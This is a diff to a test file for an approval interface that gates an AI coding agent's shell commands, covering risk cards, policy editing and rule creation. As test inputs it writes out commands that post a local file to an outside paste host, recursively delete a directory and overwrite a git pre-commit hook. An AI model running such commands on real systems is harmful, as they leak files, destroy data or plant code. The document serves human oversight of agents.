@@ -2,7 +2,7 @@
 // and put in force, a team.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { blake3 } from './blake3.mjs';
 import { frame, write } from './tour.mjs';
@@ -51,10 +51,10 @@ test('a card leads with the consequence, names the real remote, and says what ma
 
 test('a card says what a call installs, sends and deletes, before its command', async () => {
   for (const [command, words] of [
-    ['npm install left-pad', /Installs code from the network/],
-    ['curl -d @notes.txt https://paste.example', /Contacts\s+paste\.example/],
+    ['npm install left-pad', /installs code from the network/i],
+    ['curl -d @notes.txt https://paste.example', /paste\.example/],
     ['rm -rf /opt/elsewhere-face', /deletes\s+\/opt\/elsewhere-face/i],
-    ['echo x > .git/hooks/pre-commit', /Changes a file that later runs or steers something/],
+    ['echo x > .git/hooks/pre-commit', /changes a file that later runs or steers something/i],
   ]) {
     const waits = asks({ command, wait: 60, context: { agent: 'coder' } });
     const one = card(command.split(' ').slice(0, 3).join(' ')).last();
@@ -95,7 +95,7 @@ test('everything is halted on the page, and goes on when the halt is ended', asy
 });
 
 test('a policy is written, checked as it is typed, tried on past calls and put in force', async () => {
-  await asks([1, 2, 3].map((n) => ({ command: 'terraform plan -out=' + n, context: { agent: 'coder' } })));
+  await asks([1, 2, 3].map((n) => ({ command: 'terraform graph -draw-cycles ' + n, context: { agent: 'coder' } })));
   await go('policy');
   await at.page.getByRole('button', { name: 'Write one here' }).click();
   const box = at.page.getByLabel('Text of your policy file');
@@ -105,40 +105,40 @@ test('a policy is written, checked as it is typed, tried on past calls and put i
   assert.equal(await at.page.getByRole('button', { name: 'Put in force' }).count(), 0);
   await shot(at.page, 'policy-editor-error');
   await frame(at.page, 2.5);
-  await box.fill('extends = ["developer"]\n\n[allow]\nrun = ["terraform plan"]\n');
+  await box.fill('extends = ["developer"]\n\n[allow]\nrun = ["terraform graph"]\n');
   await at.page.locator('.editor .badge.fine').waitFor();
   await at.page.getByRole('button', { name: 'Try on the last 30 days' }).click();
   const flips = at.page.locator('.flips');
   await flips.waitFor();
   assert.match(await flips.innerText(), /Tried on \d+ calls? of the last 30 days: \d+ prompts? fewer/);
-  assert.match(await flips.innerText(), /terraform plan/);
+  assert.match(await flips.innerText(), /terraform graph/);
   await shot(at.page, 'policy-editor');
   await frame(at.page, 3);
   await accessible(at.page, 'the editor');
   await at.page.getByRole('button', { name: 'Put in force' }).click();
   await at.page.getByRole('button', { name: 'Yes, put it in force' }).click();
   await at.page.locator('.editor').getByText('In force now').waitFor();
-  assert.match(readFileSync(policyFile, 'utf8'), /terraform plan/);
-  assert.equal((await asks({ command: 'terraform plan -out=4' })).verdict, 'allow');
+  assert.match(readFileSync(policyFile, 'utf8'), /terraform graph/);
+  assert.equal((await asks({ command: 'terraform graph -draw-cycles 4' })).verdict, 'allow');
   await at.page.locator('.editor').getByRole('button', { name: 'Close' }).click();
 });
 
 test('a card offers the narrowest rule with a preview, and puts it in force with the yes', async () => {
   await go('approvals');
-  const waits = asks({ command: 'terraform graph', wait: 60, context: { agent: 'coder' } });
-  const one = card('terraform graph');
+  const waits = asks({ command: 'terraform providers', wait: 60, context: { agent: 'coder' } });
+  const one = card('terraform providers');
   await ready(one);
   await one.getByRole('button', { name: /Allow from now on/ }).click();
   const offer = one.locator('.from-now-on');
   await offer.getByText('This rule is added to your policy file').waitFor();
-  assert.match(await offer.locator('pre').innerText(), /terraform graph/);
+  assert.match(await offer.locator('pre').innerText(), /terraform providers/);
   await offer.locator('.flips').waitFor();
   await shot(at.page, 'card-rule');
   await accessible(at.page, 'a rule on a card');
   await offer.getByRole('button', { name: 'Allow, and add the rule' }).click();
   assert.equal((await waits).verdict, 'allow');
-  await until('the rule', async () => readFileSync(policyFile, 'utf8').includes('terraform graph'));
-  await until('it to be in force', async () => (await asks({ command: 'terraform graph' })).verdict === 'allow');
+  await until('the rule', async () => existsSync(policyFile) && readFileSync(policyFile, 'utf8').includes('terraform providers'));
+  await until('it to be in force', async () => (await asks({ command: 'terraform providers' })).verdict === 'allow');
 });
 
 test('why a call was denied is found again by a word of it', async () => {
